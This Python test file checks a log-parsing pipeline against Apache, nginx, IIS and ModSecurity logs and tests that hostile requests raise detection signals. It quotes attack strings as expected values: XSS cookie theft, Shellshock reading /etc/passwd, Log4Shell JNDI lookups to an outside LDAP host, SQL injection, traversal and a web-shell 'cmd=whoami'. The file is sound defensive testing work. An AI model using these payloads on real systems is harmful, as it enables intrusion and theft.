"""Web formats and variants on the project's own test logs (tests/data/web, see its README):
access-log variants, hostile requests, Apache and nginx error logs with ModSecurity, nginx JSON,
IIS files whose #Fields header was rotated away; and format detection on mixed samples."""
from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest

from pipelines.parsing import ALL_FORMATS, detect_format, web
from pipelines.parsing.base import ParseContext, ParseResult

from parser_cases import batch_of

DATA = Path(__file__).resolve().parent / "data" / "web"
UTC = dt.timezone.utc
CTX = ParseContext(timezone="Europe/Paris", reference_time=dt.datetime(2026, 12, 1, tzinfo=UTC))


def read_lines(name: str) -> list[str]:
    """A test log's lines, decoded as line screening does (`\\xNN` for bytes that are not UTF-8)."""
    raw = (DATA / name).read_bytes().split(b"\n")
    return [line.decode("utf-8", "backslashreplace") for line in (raw[:-1] if raw[-1] == b"" else raw)]


def parse_file(fmt, name: str) -> tuple[list[str], ParseResult]:
    lines = read_lines(name)
    result = fmt.parse(batch_of(lines, name), CTX)
    assert result.lines_accounted() == len(lines)
    return lines, result


def subset(event: dict, expected: dict) -> dict:
    return {name: event[name] for name in expected}


# ---------------------------------------------------------------------------------------------
# Access logs
# ---------------------------------------------------------------------------------------------

def test_access_log_variants():
    lines, result = parse_file(web.APACHE_COMBINED, "access_variants.log")
    assert result.dead_letters.num_rows == 0
    events = result.events.to_pylist()
    assert [e["tags"] for e in events] == [None] * len(lines)
    vhost_port, vhost_user, with_d, xff, _, ipv6, dashes, spaced_user, nginx = events
    assert subset(vhost_port, {"url.domain": "www.chu-exemple.fr", "url.port": 443, "server.port": 443,
                               "source.ip": "203.0.113.41", "http.version": "2.0", "url.query": "q=maternite"}) == {
        "url.domain": "www.chu-exemple.fr", "url.port": 443, "server.port": 443, "source.ip": "203.0.113.41",
        "http.version": "2.0", "url.query": "q=maternite"}
    assert (vhost_user["url.domain"], vhost_user["user.name"], vhost_user["source.ip"]) == (
        "intranet.chu-exemple.fr", "jdupont", "10.20.1.17")
    assert with_d["event.duration"] == 15_321_000
    assert subset(xff, {"source.ip": "198.51.100.1", "source.address": "198.51.100.1",
                        "related.ip": ["198.51.100.1", "10.0.0.2"]}) == {
        "source.ip": "198.51.100.1", "source.address": "198.51.100.1", "related.ip": ["198.51.100.1", "10.0.0.2"]}
    assert (ipv6["source.ip"], ipv6["user_agent.original"], ipv6["http.request.referrer"]) == ("2001:db8:51::17", None, None)
    assert subset(dashes, dict.fromkeys(("source.address", "http.request.method", "http.response.status_code",
                                         "http.response.bytes", "@timestamp"))) == {
        "source.address": None, "http.request.method": None, "http.response.status_code": 408,
        "http.response.bytes": None, "@timestamp": dt.datetime(2026, 11, 27, 18, 2, 9, tzinfo=UTC)}
    # the `-` convention: a header that was not sent is null, one sent empty is ""
    assert (spaced_user["user.name"], spaced_user["user_agent.original"]) == ("jean dupont", "")
    assert nginx["event.duration"] == 1_000_000
    assert web.APACHE_COMBINED.detect(lines) == 1.0


def test_hostile_requests_are_events_decoded_as_the_server_meant_them():
    lines, result = parse_file(web.APACHE_COMBINED, "hostile_access.log")
    assert result.dead_letters.num_rows == 0
    events = result.events.to_pylist()
    assert len(events) == len(lines) == 16
    assert [e["event.original"] for e in events] == lines
    by_client = {e["source.ip"]: e for e in events}
    overflow = by_client["203.0.113.1"]
    assert overflow["http.request.method"] == "SEARCH"
    assert overflow["url.original"] == "/" + "\\x90\x02\\xb1\x02" * 2048
    assert len(lines[0]) > 8192
    for n in (2, 3, 4, 10, 11, 12, 13):  # TLS and RDP handshakes, "", "-", a lone word
        assert by_client[f"203.0.113.{n}"]["url.original"] is None
        assert by_client[f"203.0.113.{n}"]["http.response.status_code"] == 400
    assert by_client["203.0.113.5"]["url.query"] == 'q="><script>alert(document.cookie)</script>'
    assert by_client["203.0.113.6"]["url.original"] == '/cgi-bin/test.cgi?x=\\"|id\\"'
    assert by_client["203.0.113.6"]["user_agent.original"] == '() { :; }; /bin/bash -c "id"'
    assert by_client["203.0.113.7"]["url.query"] == 'id=1" OR "1"="1'  # nginx's \x22
    assert by_client["203.0.113.7"]["user_agent.original"] == 'sqlmap "1.8" \\ agent'
    assert (by_client["203.0.113.8"]["url.path"], by_client["203.0.113.8"]["url.query"]) == ("/é", "q=ü' UNION SELECT 1--")
    assert by_client["203.0.113.8"]["user_agent.original"] == "${jndi:ldap://198.51.100.66/a}\x00"
    assert by_client["203.0.113.9"]["url.original"] == "/\x00../../etc/passwd"
    raw_quotes = by_client["203.0.113.14"]
    assert (raw_quotes["url.original"], raw_quotes["tags"]) == ('/a"b"', [web.PARTIAL_TAG])
    assert by_client["203.0.113.15"]["url.original"] == "/\\xc0\\xaf../\\xff\\xfe"  # not UTF-8: as screened
    assert by_client["203.0.113.16"]["user_agent.original"] == "\t\t\tGo-http-client/1.1"
    assert web.APACHE_COMBINED.detect(lines) >= 15 / 16


# ---------------------------------------------------------------------------------------------
# Error logs and ModSecurity
# ---------------------------------------------------------------------------------------------

def test_apache_24_error_log_with_modsecurity():
    lines, result = parse_file(web.APACHE_ERROR, "apache_error_24.log")
    assert result.dead_letters.num_rows == 0
    events = result.events.to_pylist()
    started, _, denied, traversal, sqli, anomaly, xss, proxy, proxy_http, php, _, debug, _, shellshock = events
    assert subset(started, {"@timestamp": None, "log.level": None, "log.logger": None, "process.pid": None,
                            "process.thread.id": None, "event.code": None, "source.ip": None}) == {
        "@timestamp": dt.datetime(2026, 11, 27, 17, 55, 2, 118000, tzinfo=UTC), "log.level": "notice",
        "log.logger": "mpm_event", "process.pid": 812, "process.thread.id": 140215587370880,
        "event.code": "AH00489", "source.ip": None}
    assert started["event.type"] == ["info"] and started["event.timezone"] == "Europe/Paris"
    assert subset(denied, dict.fromkeys(("source.ip", "source.port", "event.code", "message", "event.type",
                                         "event.kind"))) == {
        "source.ip": "203.0.113.41", "source.port": 52214, "event.code": "AH01630",
        "message": "client denied by server configuration: /srv/www/chu/.git/config", "event.type": ["error"],
        "event.kind": "event"}
    assert traversal["message"].endswith("GET /static/..%2f..%2f..%2f..%2fetc/passwd HTTP/1.1")
    assert subset(sqli, dict.fromkeys(("event.kind", "event.category", "event.type", "event.action", "rule.id",
                                       "rule.name", "rule.ruleset", "event.severity", "url.path", "url.domain",
                                       "http.request.id", "http.response.status_code", "source.ip",
                                       "http.request.referrer", "log.logger"))) == {
        "event.kind": "alert", "event.category": ["web", "intrusion_detection"], "event.type": ["denied"],
        "event.action": "access-denied", "rule.id": "942100",
        "rule.name": "SQL Injection Attack Detected via libinjection", "rule.ruleset": "OWASP_CRS/3.3.5",
        "event.severity": 2, "url.path": "/recherche.php", "url.domain": "www.chu-exemple.fr",
        "http.request.id": "Z0dgCwq8AAEAAAjH1n4AAAAB", "http.response.status_code": 403,
        "source.ip": "203.0.113.41", "http.request.referrer": "https://www.chu-exemple.fr/recherche",
        "log.logger": "security2"}
    assert "attack-sqli" in sqli["tags"] and len(sqli["tags"]) == 8
    assert (anomaly["event.action"], anomaly["event.type"], anomaly["rule.id"]) == ("warning", ["info"], "949110")
    assert (xss["source.ip"], xss["source.port"], xss["rule.id"]) == ("2001:db8:51::17", 40112, "941160")
    assert '<script>alert(\\"x\\")</script>' in xss["message"]  # Apache's own escaping undone once
    assert (proxy["message"], proxy["source.ip"]) == (
        "(111)Connection refused: HTTP: attempt to connect to 127.0.0.1:8080 (127.0.0.1) failed", None)
    assert proxy_http["http.request.referrer"] == "https://www.chu-exemple.fr/rendez-vous/"
    assert "\nStack trace:\n#0 {main}" in php["message"]
    assert (debug["log.level"], debug["source.ip"], debug["event.code"]) == ("debug", "192.0.2.200", "AH00566")
    assert shellshock["message"] == '() { :; }; echo; /bin/bash -c "cat /etc/passwd": /usr/lib/cgi-bin/status.sh'
    assert web.APACHE_ERROR.detect(lines) == 1.0


def test_apache_22_error_log():
    lines, result = parse_file(web.APACHE_ERROR, "apache_error_22.log")
    assert result.dead_letters.num_rows == 0
    events = result.events.to_pylist()
    assert [e["log.level"] for e in events] == ["notice", "error", "error", "error", "error", "error", "warn", "crit"]
    assert all(e["process.pid"] is None and e["log.logger"] is None for e in events)
    assert events[3]["source.ip"] == "2001:db8::52" and events[3]["source.port"] is None
    assert events[4]["message"].startswith("Invalid method in request \x16\x03\x01\x02\x00")
    modsec = events[5]
    assert subset(modsec, dict.fromkeys(("rule.id", "rule.name", "event.severity", "http.response.status_code",
                                         "url.path", "url.domain", "rule.ruleset", "tags"))) == {
        "rule.id": "981318", "rule.name": "SQL Injection Attack: Common Injection Testing Detected",
        "event.severity": 2, "http.response.status_code": 403, "url.path": "/annuaire.php",
        "url.domain": "intranet.chu-exemple.fr", "rule.ruleset": "OWASP_CRS/2.2.9",
        "tags": ["OWASP_CRS/WEB_ATTACK/SQL_INJECTION"]}
    assert events[6]["http.request.referrer"] == "http://intranet.chu-exemple.fr/"
    assert events[7]["message"].startswith("(13)Permission denied: /var/www/html/.htaccess")
    assert web.APACHE_ERROR.detect(lines) == 1.0


def test_nginx_error_log_with_modsecurity():
    lines, result = parse_file(web.NGINX_ERROR, "nginx_error.log")
    assert result.dead_letters.num_rows == 0
    events = result.events.to_pylist()
    started, env, forbidden, auth, upstream, delayed, handshake, sqli, xss, journal, tls = events
    assert (started["message"], started["source.ip"], started["process.pid"]) == ("signal process started", None, 1)
    assert subset(env, dict.fromkeys(("@timestamp", "log.level", "process.pid", "process.thread.id", "source.ip",
                                      "url.path", "url.domain", "http.request.method", "http.version", "message"))) == {
        "@timestamp": dt.datetime(2026, 11, 27, 18, 1, 2, tzinfo=UTC), "log.level": "error", "process.pid": 2231,
        "process.thread.id": 2231, "source.ip": "203.0.113.41", "url.path": "/.env",
        "url.domain": "www.chu-exemple.fr", "http.request.method": "GET", "http.version": "1.1",
        "message": 'open() "/usr/share/nginx/html/.env" failed (2: No such file or directory)'}
    assert forbidden["http.request.referrer"] == "https://www.chu-exemple.fr/"
    assert (auth["source.ip"], auth["message"]) == ("2001:db8:51::17", 'user "admin": password mismatch')
    assert upstream["url.path"] == "/api/rendez-vous" and upstream["message"].endswith("while connecting to upstream")
    assert (delayed["event.type"], handshake["url.domain"]) == (["info"], "0.0.0.0")
    assert subset(sqli, dict.fromkeys(("event.kind", "rule.id", "rule.name", "event.severity", "rule.ruleset",
                                       "http.response.status_code", "url.path", "url.query", "url.domain",
                                       "http.request.id", "source.ip"))) == {
        "event.kind": "alert", "rule.id": "949110", "rule.name": "Inbound Anomaly Score Exceeded (Total Score: 5)",
        "event.severity": 2, "rule.ruleset": "OWASP_CRS/3.3.5", "http.response.status_code": 403,
        "url.path": "/recherche", "url.query": "q=1%27%20UNION%20SELECT%20password%20FROM%20users--",
        "url.domain": "www.chu-exemple.fr", "http.request.id": "179684412378.120431", "source.ip": "203.0.113.41"}
    assert (xss["event.action"], xss["rule.id"], xss["tags"]) == ("warning", "941100", ["attack-xss"])
    assert journal["url.path"] == "/upload.php" and journal["source.ip"] == "198.51.100.60"
    assert tls["http.request.method"] is None and tls["source.ip"] == "203.0.113.90"
    assert web.NGINX_ERROR.detect(lines) == 1.0


def test_error_log_lines_without_a_header_are_dead_letters():
    for fmt in (web.APACHE_ERROR, web.NGINX_ERROR):
        result = fmt.parse(batch_of(["", "garbage", "[Fri Nov 31 19:10:01 2026] [error] impossible day",
                                     "2026/11/31 19:01:02 [error] 1#1: impossible day"]), CTX)
        assert result.lines_accounted() == 4 and result.events.num_rows == 0
        assert result.skipped == {"blank line": 1}


# ---------------------------------------------------------------------------------------------
# nginx JSON and IIS without #Fields
# ---------------------------------------------------------------------------------------------

def test_nginx_json_layouts():
    lines, result = parse_file(web.NGINX_JSON, "nginx_json.log")
    assert result.dead_letters.num_rows == 0
    sqli, login, tls, traversal, raw, probe = result.events.to_pylist()
    assert subset(sqli, dict.fromkeys(("@timestamp", "source.ip", "user.name", "http.request.method", "url.query",
                                       "http.response.status_code", "http.response.bytes", "event.duration",
                                       "http.request.referrer", "user_agent.original", "event.outcome"))) == {
        "@timestamp": dt.datetime(2026, 11, 27, 18, 2, 3, tzinfo=UTC), "source.ip": "203.0.113.41", "user.name": None,
        "http.request.method": "GET", "url.query": "q=1%27%20UNION%20SELECT%20password%20FROM%20users--",
        "http.response.status_code": 403, "http.response.bytes": 146, "event.duration": 2_000_000,
        "http.request.referrer": None, "user_agent.original": "sqlmap/1.8.11#stable (https://sqlmap.org)",
        "event.outcome": "failure"}
    assert subset(login, dict.fromkeys(("source.ip", "http.request.method", "url.path", "http.version",
                                        "http.request.bytes", "destination.ip", "destination.port", "related.ip",
                                        "http.request.id", "url.domain", "url.scheme", "server.port"))) == {
        "source.ip": "2001:db8:51::17", "http.request.method": "POST", "url.path": "/api/login",
        "http.version": "2.0", "http.request.bytes": 612, "destination.ip": "10.20.0.11", "destination.port": 8080,
        "related.ip": ["2001:db8:51::17", "198.51.100.1", "10.0.0.2"], "http.request.id": "5f2c0e0c9b1a4d7e8a91b2c3d4e5f601",
        "url.domain": "portail.chu-exemple.fr", "url.scheme": "https", "server.port": 443}
    assert tls["@timestamp"] == dt.datetime(2026, 11, 27, 18, 2, 7, 254000, tzinfo=UTC)
    assert (tls["url.original"], tls["user_agent.original"]) == (None, None)
    assert traversal["url.query"] == 'page="../../../../etc/passwd"&x=\\'
    assert traversal["@timestamp"] == dt.datetime(2026, 11, 27, 18, 2, 8, tzinfo=UTC)
    assert (raw["url.path"], raw["user_agent.original"]) == ("/caf\\xc3", 'Mozilla/5.0 ("quoted")')
    assert probe["user_agent.original"] == "kube-probe/1.31"
    assert web.NGINX_JSON.detect(lines) == 1.0


def test_nginx_json_bad_lines():
    good = read_lines("nginx_json.log")[0]
    lines = [good, "not json", "{broken", '{"remote_addr": "192.0.2.1", "status": "200"}', "[1, 2]", "",
             '{"time_local": "31/Nov/2026:19:02:03 +0100", "status": "200"}'] + [good] * 100
    result = web.NGINX_JSON.parse(batch_of(lines), CTX)
    assert result.lines_accounted() == len(lines)
    assert result.events.num_rows == 101 and result.skipped == {"blank line": 1}
    assert result.dead_letters["reason"].to_pylist() == [
        "not a JSON object line", "not a JSON object line", "no time key", "not a JSON object line",
        "bad timestamp '31/Nov/2026:19:02:03 +0100'"]


def test_iis_file_whose_fields_header_was_rotated_away():
    lines, result = parse_file(web.W3C, "iis_rotated.log")
    assert result.dead_letters.num_rows == 0
    events = result.events.to_pylist()
    assert {tuple(e["tags"]) for e in events} == {(web.INFERRED_TAG,)}
    logon, post, _, autodiscover, shell, activesync, jndi = events
    assert subset(logon, dict.fromkeys(("@timestamp", "server.ip", "url.path", "source.ip", "user_agent.original",
                                        "http.response.status_code", "event.duration"))) == {
        "@timestamp": dt.datetime(2026, 11, 27, 18, 2, 3, tzinfo=UTC), "server.ip": "10.20.0.30",
        "url.path": "/owa/auth/logon.aspx", "source.ip": "203.0.113.41",
        "user_agent.original": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                               "Chrome/131.0.0.0 Safari/537.36",
        "http.response.status_code": 200, "event.duration": 31_000_000}
    assert (post["user.name"], post["http.request.referrer"]) == ("CHU\\jdupont", "https://mail.chu-exemple.fr/owa/auth/logon.aspx")
    assert autodiscover["url.query"].endswith("Powershell")
    assert shell["url.query"] == "cmd=whoami"
    assert (activesync["server.ip"], activesync["source.ip"], activesync["event.duration"]) == (None, "2001:db8:77::5", 480_012_000_000)
    assert jndi["user_agent.original"] == "${jndi:ldap://198.51.100.66:1389/a}"
    assert web.W3C.detect(lines) == 1.0

    older_lines, older = parse_file(web.W3C, "iis_older_rotated.log")
    assert older.dead_letters.num_rows == 0
    iis6, _, iis7, nikto = older.events.to_pylist()
    assert (iis6["url.query"], iis6["event.duration"], iis6["server.ip"]) == ("id=1';DROP+TABLE+users--", None, "10.20.0.31")
    assert (iis7["event.duration"], nikto["user_agent.original"]) == (62_000_000, "Nikto/2.5.0")


# ---------------------------------------------------------------------------------------------
# Detection on mixed samples
# ---------------------------------------------------------------------------------------------

FILES = {
    "access_variants.log": "apache_combined", "hostile_access.log": "apache_combined",
    "apache_error_24.log": "apache_error", "apache_error_22.log": "apache_error", "nginx_error.log": "nginx_error",
    "nginx_json.log": "nginx_json", "iis_rotated.log": "w3c", "iis_older_rotated.log": "w3c",
}


@pytest.mark.parametrize("name", FILES)
def test_each_file_is_detected_as_its_format_and_no_other_format_reads_it(name):
    lines = read_lines(name)
    fmt, score = detect_format(lines)
    assert fmt is not None and fmt.name == FILES[name]
    for other in ALL_FORMATS:
        if other is not fmt:
            assert other.detect(lines) < 0.5 * score, other.name


def test_mixed_samples_go_to_the_format_that_reads_most_lines():
    access, errors, json_lines = (read_lines(n) for n in ("access_variants.log", "apache_error_24.log", "nginx_json.log"))
    mixed = errors + access[:3]  # an error log with a few access lines pasted in
    assert detect_format(mixed)[0] is web.APACHE_ERROR
    assert detect_format(access + json_lines[:2])[0] is web.APACHE_COMBINED
    nginx = read_lines("nginx_error.log")
    assert detect_format(nginx + access[:4])[0] is web.NGINX_ERROR
    for fmt in web.FORMATS:  # a batch of every format: nothing raises, every line accounted for
        everything = access + errors + json_lines + nginx + read_lines("iis_rotated.log")
        assert fmt.parse(batch_of(everything), CTX).lines_accounted() == len(everything)


# ---------------------------------------------------------------------------------------------
# End to end: a replay of the hostile corpus (bytes that are not UTF-8 included)
# ---------------------------------------------------------------------------------------------

def test_replay_of_hostile_lines_makes_every_line_an_event_and_every_attack_a_signal(tmp_path):
    import json

    import pyarrow.dataset as ds

    from pipelines.cli import main

    log = tmp_path / "access.log"
    log.write_bytes((DATA / "hostile_access.log").read_bytes())
    out = tmp_path / "out"
    assert main(["replay", str(log), "--out", str(out), "--no-enrich", "--timezone", "Europe/Paris"]) == 0
    web_counts = json.loads((out / "summary.json").read_text())["datasets"]["web"]
    assert (web_counts["lines_read"], web_counts["events"], web_counts["lines_dead_lettered"]) == (16, 16, 0)
    events = ds.dataset(out / "events", format="parquet", partitioning="hive").to_table().to_pylist()
    raw = [e for e in events if e["vigie.line.invalid_utf8"]]
    assert [e["url.original"] for e in raw] == ["/\\xc0\\xaf../\\xff\\xfe"]
    assert raw[0]["vigie.line.raw"].endswith(b'"GET /\xc0\xaf../\xff\xfe HTTP/1.1" 400 226 "-" "\xff\xfeUA"')
    # Every attack line raises a signal (the WebDAV overflow's NOP sled, TLS and RDP handshakes,
    # XSS, Shellshock, SQL injection, Log4Shell, traversal, overlong UTF-8); the others do not.
    signals = ds.dataset(out / "signals", format="parquet").to_table(columns=["source.ip"]).to_pylist()
    flagged = {int(s["source.ip"].rsplit(".", 1)[1]) for s in signals}
    assert flagged == {1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 15}
